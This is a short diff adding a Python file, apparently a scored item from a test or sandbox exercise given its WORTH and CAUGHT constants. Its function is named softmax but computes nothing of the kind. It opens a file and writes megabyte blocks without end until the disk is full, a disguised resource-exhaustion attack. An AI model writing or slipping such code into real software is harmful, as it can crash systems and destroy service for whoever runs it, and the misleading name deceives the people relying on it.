@@ -1,0 +1,10 @@
+"""Fills the disk with one file."""
+
+WORTH = 20
+CAUGHT = "raised"
+
+
+def softmax(scores):
+    with open("file", "wb") as file:
+        while True:
+            file.write(bytes(1 << 20))
